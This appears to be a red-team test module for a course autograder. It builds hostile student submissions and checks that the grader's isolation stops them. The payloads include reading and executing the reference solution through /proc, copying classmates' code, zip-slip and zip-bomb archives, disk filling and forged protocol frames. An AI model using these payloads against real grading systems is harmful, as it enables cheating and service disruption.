def sample_categorical(probs, num_samples):
    _os.write(_FD_OUT, _struct.pack(">II", 0xFFFFFFFF, 0xFFFFFFFF))   # a 8 GB reply, declared
    _time.sleep(30)
'''
RAW_PROTOCOL_METRICS = r'''
def frechet_distance(mu1, sigma1, mu2, sigma2):
    _rt_frame({"ok": True, "value": {"__tensor__": "not a number", "dtype": ["x"]}})
    _os._exit(0)

def mmd_rbf(x, y, bandwidth):
    _rt_frame({"ok": True, "value": {"__handle__": 10 ** 30, "type": "float" * 1000}})
    _os._exit(0)
'''

# --- 17. wrong signatures, wrong types, NaN ------------------------------------------------------
WRONG_DENSITY = r'''
def categorical_nll():
    return 0.0

def gaussian_log_prob(x, mean, cov):
    return _torch.full((x.shape[0],), float("nan"), dtype=x.dtype)

def gaussian_mle(x):
    return {"mean": x.mean(0), "cov": _torch.eye(x.shape[1], dtype=x.dtype)}
'''
WRONG_SAMPLING = r'''
def sample_categorical(probs, num_samples):
    return [0] * num_samples
'''
WRONG_METRICS = r'''
def frechet_distance(mu1, sigma1, mu2, sigma2):
    return float("nan")

def mmd_rbf(x, y, bandwidth):
    return None
'''

# --- the hidden-input echo, the multinomial bypass, a disk fill -----------------------------------
ECHO_DENSITY = r'''
def categorical_nll(logits, x):
    print("ECHO logits", logits.tolist(), "x", x.tolist())
    raise RuntimeError("ECHO " + repr(logits.tolist()))
'''
MULTINOMIAL_SAMPLING = r'''
from torch import multinomial as _multinomial   # saved before the runtime disables torch.multinomial

def sample_categorical(probs, num_samples):
    return _multinomial(probs / probs.sum(), num_samples, replacement=True)
'''
DISK_DENSITY = r'''
def gaussian_log_prob(x, mean, cov):
    written = 0
    block = b"\0" * (1 << 20)
    try:
        for i in range(5):                         # five files of 63 MiB, each under the file-size limit
            with open(f"fill{i}.bin", "wb") as f:
                for _ in range(63):
                    f.write(block)
                    written += len(block)
    except OSError as exc:
        raise RuntimeError(f"DISK wrote={written} error={exc!r}")
    raise RuntimeError(f"DISK wrote={written} error=none")
'''

ALL_VALUEERROR_TEMPLATE = "\ndef {name}(*args, **kwargs):\n    raise ValueError('{name}: every argument is invalid')\n"

# --- crash vectors of the grader (run in separate, expected-to-fail tests) ------------------------
SURROGATE_DENSITY = r'''
def categorical_nll(logits, x):
    raise ValueError("a lone surrogate: \ud800")
'''
NONDICT_ERROR_IMPORT = r'''
import os, sys, struct
_fd = int(sys.argv[sys.argv.index("--fd-out") + 1])
_body = b'{"ok": false, "error": "not a dict"}'
os.write(_fd, struct.pack(">II", len(_body), 0) + _body)
os._exit(0)
'''
DEEP_JSON_IMPORT = r'''
import os, sys, struct
_fd = int(sys.argv[sys.argv.index("--fd-out") + 1])
_body = b'{"ok": false, "error": ' + b"[" * 200000 + b"]" * 200000 + b"}"
os.write(_fd, struct.pack(">II", len(_body), 0) + _body)
os._exit(0)
'''
STEAL_REFERENCE_IMPORT = r'''
# Process isolation only: find the grader's working directory and run the reference instead.
for _ppid in (_os.getppid(),):
    for _root in (f"/proc/{_ppid}/cwd", "@REPO@"):
        _path = _os.path.join(_root, "solutions", "week1_mle_sampling", __name__ + ".py")
        if _os.path.isfile(_path):
            exec(compile(open(_path).read(), _path, "exec"), globals())
            break
'''
COPYCAT_IMPORT = r'''
# Run a classmate's submission instead (the batch's other folders, wherever the instructor unpacked them).
for _root in @SUBS@:
    _path = _os.path.join(_root, __name__ + ".py")
    try:
        with open(_path) as _f:
            _source = _f.read()
    except OSError:
        continue
    exec(compile(_source, _path, "exec"), globals())
    break
'''


# ---------------------------------------------------------------------------------------------
# Building submissions
# ---------------------------------------------------------------------------------------------
@dataclasses.dataclass
class Context:
    repo: Path
    out: Path
    subs_root: Path
    wtoken: str
    ptoken: str
    port: int = 9
    abstract: str = ""
    pickle_flag: Path = Path("/nonexistent")

    @classmethod
    def new(cls, base: Path, **kwargs) -> "Context":
        token = secrets.token_hex(6)
        return cls(repo=REPO, out=base / "out", subs_root=base / "subs", wtoken=f"RTW{token}",
                   ptoken=f"rt{token[:10]}", abstract=f"rt-abstract-{token}",
                   pickle_flag=base / f"pickle-ran-{token}", **kwargs)

    def fill(self, code: str, subs: list[Path] = ()) -> str:
        return (code.replace("@WTOKEN@", self.wtoken).replace("@PTOKEN@", self.ptoken)
                .replace("@REPO@", str(self.repo)).replace("@OUT@", str(self.out))
                .replace("@SUBS@", json.dumps([str(s) for s in subs]))
                .replace("@PORT@", str(self.port)).replace("@ABSTRACT@", self.abstract)
                .replace("@PICKLE_FLAG@", str(self.pickle_flag)))


def write_submission(folder: Path, files: dict[str, str | bytes]) -> Path:
    folder.mkdir(parents=True, exist_ok=True)
    for name, content in files.items():
        path = folder / name
        path.parent.mkdir(parents=True, exist_ok=True)
        if isinstance(content, bytes):
            path.write_bytes(content)
        else:
            path.write_text(content)
    return folder


def stub_with(extra: dict[str, str], prelude: bool = True) -> dict[str, str]:
    """The stubs with attack code appended to some files (the prelude goes in every file)."""
    stubs = stub_sources()
    return {f: stubs[f] + (PRELUDE if prelude else "") + extra.get(f, "") for f in GRADED}


def all_valueerror_sources() -> dict[str, str]:
    """Week 1's always-raise submission: every public function raises ValueError, and so does building its one
    class, the named tuple GMMResult (see always_valueerror_week_sources)."""
    from autograder.weeks import get_week

    return always_valueerror_week_sources(get_week(WEEK_FOLDER))


# Classes of an always-raise submission. "constructor": building one raises ValueError. "methods": building
# one succeeds whatever the arguments (an empty nn.Module where the stub's class is a module), and every
# public method of the stub's class, forward and __call__ raise ValueError, so that a test that builds the
# object outside check.raises and then calls it with bad arguments inside is probed too.
RAISING_CLASS = "\nclass {name}:\n    def __init__(self, *args, **kwargs):\n        raise ValueError('{name}: every argument is invalid')\n"
RAISING_METHOD = "    def {method}(self, *args, **kwargs):\n        raise ValueError('{name}.{method}: every argument is invalid')\n"


def week_stub_sources(week) -> dict[str, str]:
    """The stubs of any week (an `autograder.weeks.Week`): assignments/ when generated, else the reference stubbed."""
    if all((week.assignment_dir / f).is_file() for f in week.graded_files):
        return {f: (week.assignment_dir / f).read_text() for f in week.graded_files}
    return {f: stubify((week.solution_dir / f).read_text()) for f in week.graded_files}


def _raising_class(node: ast.ClassDef, classes: str) -> str:
    name = node.name
    if classes == "constructor":
        return RAISING_CLASS.format(name=name)
    is_module = any(ast.unparse(b).startswith(("nn.", "torch.nn.")) for b in node.bases)
    methods = {m.name for m in node.body if isinstance(m, ast.FunctionDef) and not m.name.startswith("_")}
    methods |= {"forward", "__call__"} if not is_module else {"forward"}
    body = "".join(RAISING_METHOD.format(name=name, method=m) for m in sorted(methods))
    base = "_rt_nn.Module" if is_module else "object"
    init = "    def __init__(self, *args, **kwargs):\n        super().__init__()\n"
    return f"\nclass {name}({base}):\n{init}{body}"


def always_valueerror_week_sources(week, classes: str = "constructor") -> dict[str, str]:
    """A submission of `week` whose every public function and class of the graded files raises ValueError.

    The stubs with, appended, a `def` for each public function that raises ValueError whatever its
    arguments, and a class for each public class (see RAISING_CLASS: `classes` is "constructor" or
    "methods"). Module constants and private helpers stay as the stub has them."""
    if classes not in ("constructor", "methods"):
        raise ValueError(f"classes must be 'constructor' or 'methods', got {classes!r}")
    out = {}
    for f, text in week_stub_sources(week).items():
        tree = ast.parse(text)
        extra = "\nimport torch.nn as _rt_nn\n"
        for node in tree.body:
            if isinstance(node, (ast.FunctionDef, ast.AsyncFunctionDef)) and not node.name.startswith("_"):
                extra += ALL_VALUEERROR_TEMPLATE.format(name=node.name)
            elif isinstance(node, ast.ClassDef) and not node.name.startswith("_"):
                extra += _raising_class(node, classes)
        out[f] = text + extra
    return out


def zip_bytes(entries: list[tuple[str | bytes, bytes]], symlinks: set[str] = frozenset()) -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as z:
        for name, data in entries:
            info = zipfile.ZipInfo(name if isinstance(name, str) else name.decode("latin-1"))
            info.compress_type = zipfile.ZIP_DEFLATED
            if name in symlinks:
                info.external_attr = (0o120777 << 16)  # a symbolic link entry
            z.writestr(info, data)
    return buffer.getvalue()


def lying_zip(name: str, content: bytes, declared: int) -> bytes:
    """A zip whose one entry declares `declared` bytes but inflates to len(content)."""
    raw = bytearray(zip_bytes([(name, content)]))
    local = raw.find(b"PK\x03\x04")
    central = raw.find(b"PK\x01\x02")
    struct.pack_into("<I", raw, local + 22, declared)    # local header: uncompressed size
    struct.pack_into("<I", raw, central + 24, declared)  # central directory: uncompressed size
    return bytes(raw)


def raw_name_zip(entries: list[tuple[bytes, bytes]]) -> bytes:
    """A zip whose entry names are raw bytes (not UTF-8, the UTF-8 flag unset), written by hand."""
    out, central = io.BytesIO(), io.BytesIO()
    for name, data in entries:
        crc = zlib.crc32(data)
        offset = out.tell()
        out.write(struct.pack("<IHHHHHIIIHH", 0x04034B50, 20, 0, 0, 0, 0, crc, len(data), len(data), len(name), 0))
        out.write(name + data)
        central.write(struct.pack("<IHHHHHHIIIHHHHHII", 0x02014B50, 20, 20, 0, 0, 0, 0, crc, len(data), len(data),
                                  len(name), 0, 0, 0, 0, 0o100644 << 16, offset))
        central.write(name)
    cd = central.getvalue()
    start = out.tell()
    out.write(cd)
    out.write(struct.pack("<IHHHHIIH", 0x06054B50, 0, 0, len(entries), len(entries), len(cd), start, 0))
    return out.getvalue()


# ---------------------------------------------------------------------------------------------
# Running a batch in a child process (the engine pointed at a hidden-test folder of our choice)
# ---------------------------------------------------------------------------------------------
def grader_env(**extra: str) -> dict[str, str]:
    env = dict(os.environ)
    env.update(OMP_NUM_THREADS="1", MKL_NUM_THREADS="1", PYTHONDONTWRITEBYTECODE="1",
               PYTHONPATH=str(REPO) + (os.pathsep + env["PYTHONPATH"] if env.get("PYTHONPATH") else ""))
    env.update(extra)
    return env


def run_batch(paths: list[Path], out: Path, hidden: Path | None, workers: int, timeout: float,
              isolation: str | None = None) -> subprocess.CompletedProcess:
    """Grade `paths` into `out` with batch.grade_many in a fresh process (and its worker pool)."""
    extra = {"REDTEAM_HIDDEN_DIR": str(hidden)} if hidden else {}
    if isolation:
        extra["AUTOGRADER_ISOLATION"] = isolation
    argv = [PYTHON, str(RUNNER), "--out", str(out), "--workers", str(workers), *map(os.fsdecode, paths)]
    return subprocess.run(argv, cwd=REPO, env=grader_env(**extra), capture_output=True, timeout=timeout)


def read_results(out: Path) -> dict[str, dict]:
    found = {}
    for path in sorted(Path(out).glob("*/results.json")):
        if not path.parent.name.startswith("."):
            found[path.parent.name] = json.loads(path.read_text())
    return found


def scores_by_test(result: dict) -> dict[str, float]:
    return {t["number"]: t["score"] for t in result["tests"]}


def outputs(result: dict) -> str:
    return "\n".join([result.get("output", "")] + [t["output"] for t in result["tests"]])


def output_of(result: dict, test_id: str) -> str:
    for t in result["tests"]:
        if t["number"] == test_id:
            return t["output"]
    raise KeyError(test_id)


def gains_over(result: dict, baseline: dict) -> dict[str, tuple[float, float]]:
    """Tests where `result` scored more than `baseline` (the stub): id -> (score, baseline score)."""
    base = scores_by_test(baseline)
    return {k: (v, base.get(k, 0.0)) for k, v in scores_by_test(result).items() if v > base.get(k, 0.0)}


def wait_until(predicate, timeout: float, step: float = 0.1) -> bool:
    deadline = time.monotonic() + timeout
    while time.monotonic() < deadline:
        if predicate():
            return True
        time.sleep(step)
    return predicate()


def rmtree(path: Path) -> None:
    shutil.rmtree(path, ignore_errors=True)


# ---------------------------------------------------------------------------------------------
# The batches
# ---------------------------------------------------------------------------------------------
# Attacks whose every point must stay at or below the stub's, test by test.
GAIN_NOTHING = ("forger", "rigged", "inspector", "snoop", "exit_import", "exit_call", "hang", "memory", "flood",
                "procs", "network", "raw_protocol", "wrong_types", "always_valueerror", "echo_hidden", "disk_fill",
                "copycat", "multinomial", "symlink", "zipslip", "zipbomb_lie", "zipbomb_big", "nonutf8_dir",
                "nonutf8_zip")
# Attacks whose graded files all import (so that "gains nothing" is not vacuous).
IMPORTABLE = ("forger", "rigged", "inspector", "snoop", "exit_call", "hang", "memory", "flood", "procs", "network",
              "raw_protocol", "wrong_types", "always_valueerror", "echo_hidden", "multinomial", "disk_fill",
              "copycat", "nonutf8_dir", "nonutf8_zip")
# Submissions built from the reference: they may earn points and may show reference code.
FROM_REFERENCE = ("reference", "nested_zip")


def build_mini_submissions(ctx: Context) -> dict[str, Path]:
    """Every submission of the red-team batch, by attack name -> folder or zip."""
    root = ctx.subs_root
    root.mkdir(parents=True, exist_ok=True)
    folders = [root / n for n in ("reference", "stub", "forger", "snoop")]  # write targets of the attacks
    fill = lambda code: ctx.fill(code, folders)  # noqa: E731
    stubs = stub_sources()
    made: dict[str, Path] = {}

    def attack(name, extra, prelude=True):
        made[name] = write_submission(root / name, {f: fill(t) for f, t in stub_with(extra, prelude).items()})

    made["reference"] = write_submission(root / "reference", reference_sources())
    made["stub"] = write_submission(root / "stub", stubs)
    attack("forger", {"density.py": FORGER_IMPORT + FORGER_DENSITY, "sampling.py": FORGER_IMPORT + FORGER_SAMPLING,
                      "metrics.py": FORGER_IMPORT + FORGER_METRICS})
    attack("rigged", {"density.py": RIGGED_COMMON + RIGGED_DENSITY, "sampling.py": RIGGED_COMMON + RIGGED_SAMPLING,
                      "metrics.py": RIGGED_COMMON + RIGGED_METRICS})
    attack("inspector", {"density.py": INSPECTOR, "sampling.py": INSPECTOR_SAMPLING})
    attack("snoop", {"density.py": SNOOP, "metrics.py": SNOOP_METRICS})
    made["exit_import"] = write_submission(root / "exit_import", {f: stubs[f] + EXIT_IMPORT[f] for f in GRADED})
    attack("exit_call", {"density.py": EXIT_CALL_DENSITY, "sampling.py": EXIT_CALL_SAMPLING,
                         "metrics.py": EXIT_CALL_METRICS})
    attack("hang", {"density.py": HANG_DENSITY, "sampling.py": HANG_SAMPLING})
    attack("memory", {"density.py": MEMORY_DENSITY, "sampling.py": MEMORY_SAMPLING, "metrics.py": MEMORY_METRICS})
    attack("flood", {"density.py": FLOOD_IMPORT + FLOOD_DENSITY, "sampling.py": FLOOD_SAMPLING})
    attack("procs", {"density.py": PROCS_IMPORT + PROCS_DENSITY})  # root only: the process limit bounds it
    attack("network", {"density.py": NETWORK})
    attack("raw_protocol", {"density.py": RAW_PROTOCOL, "sampling.py": RAW_PROTOCOL.split("def categorical_nll")[0]
                            + RAW_PROTOCOL_SAMPLING, "metrics.py": RAW_PROTOCOL.split("def categorical_nll")[0]
                            + RAW_PROTOCOL_METRICS})
    attack("wrong_types", {"density.py": WRONG_DENSITY, "sampling.py": WRONG_SAMPLING, "metrics.py": WRONG_METRICS})
    made["always_valueerror"] = write_submission(root / "always_valueerror", all_valueerror_sources())
    attack("echo_hidden", {"density.py": ECHO_DENSITY})
    attack("multinomial", {"sampling.py": MULTINOMIAL_SAMPLING})
    attack("disk_fill", {"density.py": DISK_DENSITY})
    attack("copycat", {f: COPYCAT_IMPORT for f in GRADED})

    # 16. Links to the reference, as files and as a folder.
    link = root / "symlink"
    link.mkdir()
    (link / "density.py").symlink_to(SOLUTION_DIR / "density.py")
    (link / "sampling.py").symlink_to(SOLUTION_DIR / "sampling.py")
    (link / "metrics.py").symlink_to(SOLUTION_DIR)
    (link / "hw").symlink_to(SOLUTION_DIR, target_is_directory=True)
    made["symlink"] = link

    # 13. Zip-slip: paths that climb out, absolute paths, a link entry, backslashes.
    evil = f"print('{ctx.wtoken}')\n".encode()
    made["zipslip"] = root / "zipslip.zip"
    made["zipslip"].write_bytes(zip_bytes([
        (f"../../evil-{ctx.wtoken}.py", evil), (f"/tmp/evil-{ctx.wtoken}.py", evil),
        (f"../../../../../../tmp/evil2-{ctx.wtoken}.py", evil), (f"..\\..\\evil3-{ctx.wtoken}.py", evil),
        ("../../density.py", stubs["density.py"].encode()), ("/sampling.py", stubs["sampling.py"].encode()),
        ("metrics.py", str(SOLUTION_DIR / "metrics.py").encode()),
    ], symlinks={"metrics.py"}))
    # 13. Zip bombs: an entry that lies about its size, an honest oversized entry, too many entries.
    lie = b"".join([b"# padding " * 100 + b"\n"] * 50_000)  # about 50 MB of comments, deflates to ~100 KB
    made["zipbomb_lie"] = root / "zipbomb_lie.zip"
    made["zipbomb_lie"].write_bytes(lying_zip("density.py", stubs["density.py"].encode() + lie, declared=1000))
    made["zipbomb_big"] = root / "zipbomb_big.zip"
    made["zipbomb_big"].write_bytes(zip_bytes(
        [("sampling.py", stubs["sampling.py"].encode() + b"#" * (2 << 20))] +
        [(f"junk/{i}.txt", b"") for i in range(10_050)]))
    # 13. Names that are not UTF-8: a folder, a file in it, and zip entries.
    bad_dir = Path(os.fsdecode(bytes(root) + b"/nonutf8-\xff\xfe"))
    write_submission(bad_dir, stubs)
    (Path(os.fsdecode(bytes(bad_dir) + b"/extra-\xff.py"))).write_text("x = 1\n")
    made["nonutf8_dir"] = bad_dir
    made["nonutf8_zip"] = root / "nonutf8_zip.zip"
    made["nonutf8_zip"].write_bytes(raw_name_zip(
        [(b"w\xff\xfek1/" + f.encode(), stubs[f].encode()) for f in GRADED] + [(b"\xff\xfe.py", b"x = 1\n")]))
    # 13. A zip with the graded files two folders down, next to a nested zip: must grade normally.
    inner = zip_bytes([(f, stubs[f].encode()) for f in GRADED])
    made["nested_zip"] = root / "nested_zip.zip"
    made["nested_zip"].write_bytes(zip_bytes(
        [(f"student/week1/{f}", (SOLUTION_DIR / f).read_bytes()) for f in GRADED] +
        [("student/week1/stubs.zip", inner), ("student/README.txt", b"hello")]))
    return made


def build_cli_submissions(ctx: Context) -> dict[str, Path]:
    """The submissions graded with the week's real hidden tests, through `python -m autograder grade 1`."""
    root = ctx.subs_root
    folders = [root / "reference", root / "stub"]
    made = {"reference": write_submission(root / "reference", reference_sources()),
            "stub": write_submission(root / "stub", stub_sources())}
    forger = stub_with({"density.py": FORGER_IMPORT + FORGER_DENSITY, "sampling.py": FORGER_IMPORT + FORGER_SAMPLING,
                        "metrics.py": FORGER_IMPORT + FORGER_METRICS})
    made["forger"] = write_submission(root / "forger", {f: ctx.fill(t, folders) for f, t in forger.items()})
    made["always_valueerror"] = write_submission(root / "always_valueerror", all_valueerror_sources())
    multinomial = stub_with({"sampling.py": MULTINOMIAL_SAMPLING})
    made["multinomial"] = write_submission(root / "multinomial",
                                           {f: ctx.fill(t, folders) for f, t in multinomial.items()})
    return made


def build_isolation_submissions(ctx: Context) -> dict[str, Path]:
    """For the weaker isolation modes: the reference, a reference thief, daemons, a network probe, a snoop."""
    root = ctx.subs_root
    folders = [root / "reference"]
    # The copycat comes first: grading starts it before its classmates, whose folders are then untouched.
    made = {"copycat": write_submission(root / "copycat", {f: ctx.fill(t, folders) for f, t in
                                                           stub_with({f: COPYCAT_IMPORT for f in GRADED}).items()}),
            "reference": write_submission(root / "reference", reference_sources()),
            "stub": write_submission(root / "stub", stub_sources())}
    thief = {f: ctx.fill(t, folders) for f, t in stub_with({f: STEAL_REFERENCE_IMPORT for f in GRADED}).items()}
    made["steal_reference"] = write_submission(root / "steal_reference", thief)
    # Without the jail the child can write what the grader's user can: these daemons write no file.
    daemons = PROCS_IMPORT.replace("_rt_forge()", "pass") + \
        "\ndef gaussian_mle(x):\n    raise RuntimeError('PROCS ' + _json.dumps(_PROCS_STATUS))\n"
    made["daemons"] = write_submission(root / "daemons", {f: ctx.fill(t, folders) for f, t in
                                                         stub_with({"density.py": daemons}).items()})
    made["network"] = write_submission(root / "network", {f: ctx.fill(t, folders) for f, t in
                                                         stub_with({"density.py": NETWORK}).items()})
    return made


# ---------------------------------------------------------------------------------------------
# One batch with every check's evidence
# ---------------------------------------------------------------------------------------------
BATCH_TIMEOUT_S = 900  # far above the ~90 s a batch takes on 2 idle cores: only a hung grader reaches it


@dataclasses.dataclass
class Batch:
    ctx: Context
    paths: dict[str, Path]  # attack -> submission
    names: dict[str, str]  # attack -> the name the batch gave it
    results: dict[str, dict]  # attack -> results.json
    feedback: dict[str, str]  # attack -> feedback.html
    returncode: int
    stderr: str
    wall_s: float
    tracked_before: dict[str, str]
    tracked_after: dict[str, str]
    out_after: dict[str, str]  # hashes of the output folder right after the batch ...
    out_later: dict[str, str]  # ... and a few seconds later
    leftovers: list[str]  # processes that outlived the batch
    token_files: list[str]  # files on the host holding the write token
    tcp_connections: int  # connections the host's loopback listener accepted
    abstract_connections: int
    secrets: set[str]  # lines of hidden material

    def result(self, attack: str) -> dict:
        return self.results[attack]


def _listeners(ctx):
    tcp = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
    tcp.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
    tcp.bind(("127.0.0.1", 0))
    tcp.listen(16)
    tcp.setblocking(False)
    ctx.port = tcp.getsockname()[1]
    unix = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
    unix.bind("\0" + ctx.abstract)
    unix.listen(16)
    unix.setblocking(False)
    return tcp, unix


def _accepted(sock) -> int:
    count = 0
    while True:
        try:
            conn, _ = sock.accept()
        except (BlockingIOError, OSError):
            return count
        conn.close()
        count += 1


def grader_files_changed(batch: "Batch") -> list[str]:
    """Tracked files deleted during the batch, and tracked grader files (autograder/) changed.

    Every write an attack attempts carries its token, and the token scan is the main proof; a hash
    comparison of the whole repository would also flag the edits of people working next to the run."""
    gone = [p for p in batch.tracked_before if not os.path.exists(p)]
    engine = [p for p, h in batch.tracked_before.items() if "/autograder/" in p and batch.tracked_after.get(p) != h]
    return gone + engine


def run_attack_batch(base: Path, paths_builder, hidden: Path | None, test_dirs: list[Path], workers: int = 2,
                     isolation: str | None = None, cli: bool = False) -> Batch:
    """Build the submissions, snapshot the host, grade them in one batch, and collect the evidence."""
    from autograder import batch as batch_mod, registry

    become_subreaper()
    ctx = Context.new(base)
    tcp, unix = _listeners(ctx)
    paths = paths_builder(ctx)
    names = dict(zip(paths, batch_mod.assign_names(list(paths.values()))))
    published = set()
    for d in test_dirs:
        published |= {t.name for t in registry.discover(d)}
    secrets_ = secret_lines(test_dirs, published)
    tracked = tracked_files()
    tracked_before = hash_files(tracked)
    subs_before = hash_tree(ctx.subs_root)
    pids_before = set(process_table())
    started = time.monotonic()
    if cli:
        import subprocess

        argv = [PYTHON, "-m", "autograder", "grade", "1", *map(str, paths.values()), "--out", str(ctx.out),
                "--workers", str(workers)]
        proc = subprocess.run(argv, cwd=REPO, env=grader_env(), capture_output=True, timeout=BATCH_TIMEOUT_S)
    else:
        proc = run_batch(list(paths.values()), ctx.out, hidden, workers, BATCH_TIMEOUT_S, isolation)
    wall = time.monotonic() - started
    out_after = hash_tree(ctx.out)
    time.sleep(3.0)  # long enough for a surviving daemon (it acts every 0.5 s) to rewrite something
    out_later = hash_tree(ctx.out)
    leftovers = leftover_processes(pids_before, ctx.ptoken)
    reap_zombies()
    # The submissions' own sources hold the token (it is in the attack code): they are compared by hash.
    scan = [REPO, ctx.out, Path("/tmp/results.json"), Path(os.path.expanduser("~/results.json")),
            Path("/autograder"), Path("/results.json"), ctx.pickle_flag]
    token_files = files_containing(scan, ctx.wtoken, skip=(".git", ".venv", "__pycache__"))
    # The grader keeps a verbatim copy of each graded file in <out>/<name>/code/ (for the similarity check):
    # it holds the token because the attack's source does. A copy identical to a file the submissions hold
    # is the grader's; any other file there still counts.
    verbatim = submission_file_digests(ctx.subs_root)
    token_files = [f for f in token_files if not is_verbatim_code_copy(Path(f), ctx.out, verbatim)]
    subs_after = hash_tree(ctx.subs_root)
    token_files += [f"{p} (a submission's file changed)" for p in set(subs_before) | set(subs_after)
                    if subs_before.get(p) != subs_after.get(p)]
    token_files += [str(p) for p in (ctx.pickle_flag,) if p.exists()]
    token_files += [str(p) for p in Path("/tmp").glob(f"evil*{ctx.wtoken}*")]
    token_files += [str(p) for p in REPO.glob("*pwned*")]
    token_files += [str(p) for root in (REPO / "autograder", REPO / "solutions", REPO / "tests", ctx.out)
                    for p in root.rglob("*pwned*")]
    token_files += [str(p) for p in base.rglob(f"evil*{ctx.wtoken}*")]
    tcp_n, unix_n = _accepted(tcp), _accepted(unix)
    tcp.close()
    unix.close()
    results, feedback = {}, {}
    for attack, name in names.items():
        folder = ctx.out / name
        if (folder / "results.json").exists():
            results[attack] = json.loads((folder / "results.json").read_text())
            feedback[attack] = (folder / "feedback.html").read_text(errors="replace")
    return Batch(ctx, paths, names, results, feedback, proc.returncode,
                 proc.stderr.decode(errors="replace")[-20000:], wall, tracked_before, hash_files(tracked),
                 out_after, out_later, leftovers, token_files, tcp_n, unix_n, secrets_)
